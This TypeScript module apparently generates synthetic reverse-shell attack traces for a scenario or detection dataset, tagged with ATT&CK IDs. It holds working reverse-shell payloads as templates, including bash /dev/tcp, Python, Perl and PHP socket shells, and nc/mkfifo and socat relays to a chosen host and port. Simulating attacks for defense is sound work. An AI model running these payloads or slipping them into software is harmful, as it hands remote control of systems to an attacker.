import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { behind, look, maybe, quote, type Remote, remote, workFile, write } from '../ways.ts';

const TECHNIQUES = ['T1059.004', 'T1095', 'T1571'];

/** A shell that takes its commands from another machine, by bash alone. */
const byBash: Attack = {
  name: 'reverse-shell-bash',
  family: 'reverse-shell',
  techniques: TECHNIQUES,
  as: 'either',
  needs: [],
  lines: (draw, place) => {
    const { host, port } = remote(draw, place);
    const shell = draw.pick([
      `bash -i > /dev/tcp/${host}/${port} 0<&1 2> /dev/null`,
      `exec 196<>/dev/tcp/${host}/${port}; sh <&196 >&196 2>&196`,
      `exec 5<>/dev/tcp/${host}/${port}; while read -r l <&5; do eval "$l" >&5 2>&1; done`,
      `sh < /dev/tcp/${host}/${port}`,
    ]);
    const script = workFile(draw, place, '.sh');
    const ways = [
      [`bash -c ${quote(shell)}`],
      [behind(draw, `bash -c ${quote(shell)}`), `sleep ${draw.int(15, 40)}`],
      [
        write(draw, script, `#!/bin/bash\n${shell}`),
        `chmod +x ${script}`,
        behind(draw, script),
        `sleep ${draw.int(15, 40)}`,
      ],
    ];
    return [
      ...look(draw, draw.int(2, 4)),
      ...draw.pick(ways),
      ...maybe(draw, 0.4, 'jobs'),
      ...maybe(draw, 0.3, `rm -f ${script}`),
    ];
  },
};

function interpreter(
  draw: Draw,
  { host, port }: Remote,
): { readonly command: string; readonly extension: string; readonly body: string } {
  const shell = draw.pick(['/bin/sh', '/bin/bash']);
  return draw.pick([
    {
      command: 'python3',
      extension: '.py',
      body: `import socket,subprocess,os;s=socket.socket();s.connect(("${host}",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["${shell}"])`,
    },
    {
      command: 'python3',
      extension: '.py',
      body: `import os,socket\ns=socket.create_connection(("${host}",${port}))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\nos.execv("${shell}",["${shell}"])`,
    },
    {
      command: 'python3',
      extension: '.py',
      body: `import socket,subprocess\ns=socket.create_connection(("${host}",${port}))\nfor l in s.makefile(): s.sendall(subprocess.run(l,shell=True,stdout=-1,stderr=-2).stdout or b"\\n")`,
    },
    {
      command: 'perl',
      extension: '.pl',
      body: `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(${port},inet_aton("${host}")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("${shell}");}`,
    },
    {
      command: 'php',
      extension: '.php',
      body: `$s=fsockopen("${host}",${port});$p=proc_open("${shell}",array($s,$s,$s),$q);proc_close($p);`,
    },
  ]);
}

/** The same by an interpreter: typed in one line, or from a file. */
const byInterpreter: Attack = {
  name: 'reverse-shell-interpreter',
  family: 'reverse-shell',
  techniques: [...TECHNIQUES, 'T1059.006'],
  as: 'either',
  needs: ['python3', 'perl', 'php'],
  lines: (draw, place) => {
    const { command, extension, body } = interpreter(draw, remote(draw, place));
    const path = workFile(draw, place, extension);
    const typed = `${command} ${command === 'python3' ? '-c' : command === 'php' ? '-r' : '-e'} ${quote(body)}`;
    const run = draw.chance(0.5)
      ? [typed]
      : [write(draw, path, command === 'php' ? `<?php\n${body}` : body), `${command} ${path}`];
    const last = run.length - 1;
    const left = draw.chance(0.4);
    return [
      ...look(draw, draw.int(1, 3)),
      ...run.slice(0, last),
      left ? behind(draw, run[last] ?? typed) : (run[last] ?? typed),
      ...(left ? [`sleep ${draw.int(15, 40)}`] : []),
      ...maybe(draw, 0.3, `rm -f ${path}`),
      ...look(draw, draw.int(1, 3)),
    ];
  },
};

function relay(draw: Draw, place: Place): readonly string[] {
  const { host, port } = remote(draw, place);
  const pipe = `${draw.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${draw.chance(0.4) ? '.' : ''}${draw.word()}`;
  const shell = draw.pick(['sh', '/bin/sh', 'bash', '/bin/bash']);
  return draw.pick([
    [
      `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | ${shell} 2>&1 | timeout 60 nc ${host} ${port} > ${pipe}`,
      `rm -f ${pipe}`,
    ],
    [`mkfifo ${pipe} && timeout 60 nc ${host} ${port} < ${pipe} | ${shell} > ${pipe} 2>&1; rm ${pipe}`],
    [`mknod ${pipe} p`, `${shell} 0< ${pipe} 2>&1 | timeout 60 nc ${host} ${port} 1> ${pipe}`],
    [`timeout 60 socat tcp:${host}:${port} exec:${shell},stderr`],
    [`timeout 60 socat exec:'${shell}',pipes,stderr tcp-connect:${host}:${port}`],
    [`timeout 60 socat TCP4:${host}:${port} EXEC:${shell},stderr,setsid`],
  ]);
}

/** The same by a relay of bytes between a connection and a shell. */
const byRelay: Attack = {
  name: 'reverse-shell-relay',
  family: 'reverse-shell',
  techniques: TECHNIQUES,
  as: 'either',
  needs: ['nc', 'socat'],
  lines: (draw, place) => [
    ...look(draw, draw.int(1, 3)),
    ...relay(draw, place),
    ...maybe(draw, 0.2, ...relay(draw, place)),
    ...look(draw, draw.int(1, 3)),
  ],
};

export const REVERSE_SHELL: readonly Attack[] = [byBash, byInterpreter, byRelay];
